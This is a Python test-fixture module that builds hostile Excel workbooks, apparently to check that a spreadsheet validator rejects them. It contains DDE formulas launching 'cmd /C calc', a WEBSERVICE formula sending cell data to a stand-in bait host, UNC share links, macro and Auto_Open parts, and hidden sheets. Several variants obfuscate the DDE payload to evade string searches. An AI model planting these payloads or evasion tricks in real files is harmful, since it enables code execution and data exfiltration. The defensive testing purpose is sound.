"""Workbooks that carry what acts: macros, links, objects, formulas that reach elsewhere; and those of two faces."""

from collections.abc import Iterator
from dataclasses import replace
from functools import cache

import kit
from hostile_files import BAIT, SHEET, Hostile, carrying, sound_parts, unreadable, with_names
from packages import (
    MACRO_TYPE,
    WORKBOOK_TYPE,
    packed,
    parts_of,
    related,
    replaced,
    with_table,
)

from toolkit.workbook.template import build_workbook


@cache
def _wrong_parts() -> dict[str, bytes]:
    """A workbook that does not add up, and so goes back to its agency."""
    base = kit.report("suqian-2024")
    first = next(term.cell for case in base.form.cases for term in case.left.inputs)
    return parts_of(build_workbook(replace(base, values={**base.values, first: 987_654})))


def riding_along() -> Iterator[Hostile]:
    """Sound workbooks with what no form has."""
    parts = sound_parts()
    yield carrying("宏.xlsm", _with_macros(parts), "macro-carried")
    yield carrying("宏改名.xlsx", _with_macros(parts), "macro-carried")
    yield carrying("旧式宏.xlsx", {**parts, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}, "macro-carried")
    yield carrying("自动运行.xlsx", with_names(parts, "_xlnm.Auto_Open", "二!$A$1"), "macro-carried")
    dde = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>'
    book, share = '<externalBook r:id="r1"/>', "file:///\\\\10.0.0.9\\share\\x.xlsx"
    yield carrying("外部链接.xlsx", _linked(parts, book, share), "link-carried")
    yield carrying("DDE链接.xlsx", _linked(parts, dde), "dde-carried")
    run, ask = "cmd|'/C calc'!A0", f'WEBSERVICE("{BAIT}/?"&amp;A1)'
    yield carrying("DDE公式.xlsx", _with_formula(parts, run), "dde-carried", "outside-form")
    yield carrying("取网页.xlsx", _with_formula(parts, ask), "link-carried", "outside-form")
    yield carrying("引用外部.xlsx", _with_formula(parts, "[1]表!A1"), "link-carried", "outside-form")
    yield carrying(
        "嵌入对象.xlsx", {**parts, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 9}, "object-carried"
    )
    yield carrying("控件.xlsx", {**parts, "xl/activeX/activeX1.bin": b"x" * 99}, "object-carried")
    yield carrying("查询.xlsx", {**parts, "xl/connections.xml": b"<connections/>"}, "query-carried")
    yield carrying("外部名称.xlsx", with_names(parts, "甲", "[1]表!$A$1"), "name-outside")
    yield carrying("网络名称.xlsx", with_names(parts, "乙", "'\\\\10.0.0.9\\share\\[x.xlsx]表'!$A$1"), "name-outside")
    outside = related(parts, SHEET, "r9", "image", f"{BAIT}/x.png", outside=True)
    yield carrying("网上图片.xlsx", outside, "link-carried")
    yield carrying("隐藏表.xlsx", _with_sheet("hidden"), "sheet-hidden")
    yield carrying("深藏表.xlsx", _with_sheet("veryHidden"), "sheet-hidden")
    yield carrying("隐藏行.xlsx", replaced(parts, SHEET, b'<row r="9" ', b'<row r="9" hidden="1" '), "line-hidden")
    inputs = b'<xf numFmtId="%d" fontId="3" fillId="0"'
    shown = replaced(parts, "xl/styles.xml", inputs % 1, inputs % 9)
    yield Hostile("显示别的数.xlsx", packed(shown), "failed", ("shown-differs",))
    yield from _hidden_from_a_search()
    yield from _inside_of_parts()
    wrong = _with_macros(_linked(_with_formula(_wrong_parts(), run), dde))
    yield Hostile("有误带宏.xlsm", packed(wrong), "failed", ("macro-carried", "dde-carried"))
    wrong = with_names(_linked(_with_formula(_wrong_parts(), ask), book, share), "甲", "[1]表!$A$1")
    yield Hostile("有误带链接.xlsx", packed(wrong), "failed", ("link-carried", "name-outside"))


def _hidden_from_a_search() -> Iterator[Hostile]:
    """The same, written so that only a parser sees it."""
    parts, run = sound_parts(), "cmd|'/C calc'!A0"
    for name, cell in {
        "属性在前": f'<c s="0" r="L60"><f>{run}</f><v>0</v></c>',
        "单引号": f"<c r='L60'><f>{run}</f><v>0</v></c>",
        "没有地址": f"<c><f>{run}</f><v>0</v></c>",
        "夹注释": f'<c r="L60"><f>cmd<!-- -->{run[3:]}</f><v>0</v></c>',
        "夹部件": f'<c r="L60"><f>cmd<x/>{run[3:]}</f><v>0</v></c>',
        "字面": f'<c r="L60"><f><![CDATA[{run}]]></f><v>0</v></c>',
        "值在前": f'<c r="L60"><v>0</v><f>{run}</f></c>',
        "写成编号": f'<c r="L60"><f>{run.replace("|", "&#x7c;")}</f><v>0</v></c>',
        "小写地址": f'<c r="l60"><f>{run}</f><v>0</v></c>',
        "空格": f'<c  r = "L60" ><f >{run}</f><v>0</v></c>',
    }.items():
        row = f'<row r="60">{cell}</row></sheetData>'.encode()
        yield carrying(f"DDE{name}.xlsx", replaced(parts, SHEET, b"</sheetData>", row), "dde-carried")
    space = b'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    row = f'<x:row {space.decode()} r="60"><x:c r="L60"><x:f>{run}</x:f><x:v>0</x:v></x:c></x:row></sheetData>'
    yield Hostile(
        "DDE带前缀.xlsx", packed(replaced(parts, SHEET, b"</sheetData>", row.encode())), "passed", ("dde-carried",)
    )
    for name, rule in {
        "夹部件的颜色": f"<formula>1<x/>+{run}</formula>",
        "像空的颜色": f'<formula a="/>">1<x/>+{run}</formula>',
    }.items():
        rules = f'<conditionalFormatting sqref="L61"><cfRule type="expression" priority="99">{rule}</cfRule>'
        coloured = replaced(
            parts, SHEET, b"<conditionalFormatting", f"{rules}</conditionalFormatting><conditionalFormatting".encode()
        )
        yield carrying(f"DDE{name}.xlsx", coloured, "dde-carried")
    moved = related({**parts, "xl/theme/a.dat": b"\xcc\x61"}, "xl/workbook.xml", "m1", "vbaProject", "theme/a.dat")
    yield carrying("宏搬了家.xlsx", moved, "macro-carried")
    link = related(parts, "xl/workbook.xml", "l9", "externalLinkPath", f"{BAIT}/x.xlsx", outside=True)
    rels = "xl/_rels/workbook.xml.rels"
    yield carrying("链接写成编号.xlsx", replaced(link, rels, b'"External"', b'"Ext&#101;rnal"'), "link-carried")
    name = "<definedName\nname='丙'>[1]表!$A$1</definedName>".encode()
    if b"<definedNames>" in parts["xl/workbook.xml"]:
        named = replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + name)
    else:
        named = replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + name + b"</definedNames>")
    yield carrying("名称换行.xlsx", named, "name-outside")


def _inside_of_parts() -> Iterator[Hostile]:
    """What stands in tables, drawings and other parts that no form has."""
    parts, run = sound_parts(), "cmd|'/C calc'!A0"
    yield carrying(
        "表格公式.xlsx", with_table(parts, SHEET, run, f'WEBSERVICE("{BAIT}/")'), "dde-carried", "link-carried"
    )
    wrong = with_table(_wrong_parts(), SHEET, f"1<x/>+{run}", f'WEBSERVICE("{BAIT}/")')
    yield Hostile("有误带表格.xlsx", packed(wrong), "failed", ("dde-carried", "link-carried"))
    yield carrying("按钮.xlsx", _drawn(parts, f"<x:FmlaMacro>[0]!甲</x:FmlaMacro><x:FmlaPict>{run}</x:FmlaPict><br>"),
                   "macro-carried", "dde-carried")  # fmt: skip
    mashup = b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    for name, content in (("查询编辑器", mashup), ("查询两字节", mashup.decode().encode("utf-16"))):
        item = related({**parts, "customXml/item1.xml": content}, "xl/workbook.xml", "q1", "customXml", "x")
        yield carrying(f"{name}.xlsx", item, "query-carried")
    kind = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
    ribbon = f'<Relationship Id="u1" Type="{kind}" Target="xl/u.xml"/></Relationships>'.encode()
    ribbon_parts = {**parts, "xl/u.xml": b'<customUI onLoad="x"/>'}
    yield carrying("功能区.xlsx", replaced(ribbon_parts, "_rels/.rels", b"</Relationships>", ribbon), "macro-carried")
    published = rb'<webPublishItems><webPublishItem destinationFile="\\10.0.0.9\x.htm"/></webPublishItems></worksheet>'
    yield carrying("网上发布.xlsx", replaced(parts, SHEET, b"</worksheet>", published), "link-carried")
    clicked = related(parts, "xl/workbook.xml", "h1", "hyperlink", f"{BAIT}/a", outside=True)
    yield carrying("工作簿的链接.xlsx", clicked, "link-carried")
    clicked = related(parts, SHEET, "h1", "hyperlink", "file:///C:/Windows/System32/calc%2Eexe", outside=True)
    yield carrying("点开程序.xlsx", clicked, "link-carried")
    renamed = replaced(_with_sheet("veryHidden"), "xl/workbook.xml", "暗".encode(), "审核意见".encode())
    yield carrying("深藏审核意见.xlsx", renamed, "sheet-hidden")
    own = replaced(parts, "xl/workbook.xml", 'name="自查"'.encode(), 'name="自查" state="hidden"'.encode())
    yield carrying("藏起自查.xlsx", own, "sheet-hidden")


def _drawn(parts: dict[str, bytes], inside: str) -> dict[str, bytes]:
    """A workbook with a shape that is drawn in the old way, as buttons are; such drawings need not be well-formed."""
    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"'
    shape = f'<xml {spaces}><v:shape><x:ClientData ObjectType="Button">{inside}</x:ClientData></v:shape></xml>'
    made = {**parts, "xl/drawings/vmlDrawing1.vml": shape.encode()}
    return related(made, SHEET, "v1", "vmlDrawing", "../drawings/vmlDrawing1.vml")


def two_faced() -> Iterator[Hostile]:
    """Files that office programs would open otherwise than a reader."""
    parts = sound_parts()
    decoy = replaced(
        {**parts, "xl/real.xml": parts["xl/workbook.xml"]}, "_rels/.rels", b"xl/workbook.xml", b"xl/real.xml"
    )
    yield unreadable("两个工作簿.xlsx", packed(decoy), "damaged")
    sheet = b'<sheet name="_GKNB" sheetId="97" r:id="rId1"/></sheets>'
    yield unreadable("大小写同名表.xlsx", packed(replaced(parts, "xl/workbook.xml", b"</sheets>", sheet)), "damaged")


def _with_macros(parts: dict[str, bytes]) -> dict[str, bytes]:
    types = replaced(parts, "[Content_Types].xml", WORKBOOK_TYPE, MACRO_TYPE)
    macros = {**types, "xl/vbaProject.bin": b"\xcc\x61" * 500}
    return related(macros, "xl/workbook.xml", "m1", "vbaProject", "vbaProject.bin")


def _linked(parts: dict[str, bytes], inside: str, target: str = "") -> dict[str, bytes]:
    """A workbook with a link to another file or program."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    space += ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    part = "xl/externalLinks/externalLink1.xml"
    parts = {**parts, part: f"<externalLink {space}>{inside}</externalLink>".encode()}
    if target:
        parts = related(parts, part, "r1", "externalLinkPath", target, outside=True)
    return related(parts, "xl/workbook.xml", "l1", "externalLink", "externalLinks/externalLink1.xml")


def _with_formula(parts: dict[str, bytes], formula: str) -> dict[str, bytes]:
    """A workbook with a formula in a cell beside the table."""
    cell = f'<row r="60"><c r="L60"><f>{formula}</f><v>0</v></c></row></sheetData>'
    return replaced(parts, SHEET, b"</sheetData>", cell.encode())


def _with_sheet(state: str) -> dict[str, bytes]:
    """A workbook with one more sheet, which is not shown."""
    sheet = f'<sheet name="暗" sheetId="99" state="{state}" r:id="x99"/></sheets>'.encode()
    parts = replaced(sound_parts(), "xl/workbook.xml", b"</sheets>", sheet)
    space = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
    parts = {**parts, "xl/worksheets/sheet99.xml": space}
    return related(parts, "xl/workbook.xml", "x99", "worksheet", "worksheets/sheet99.xml")
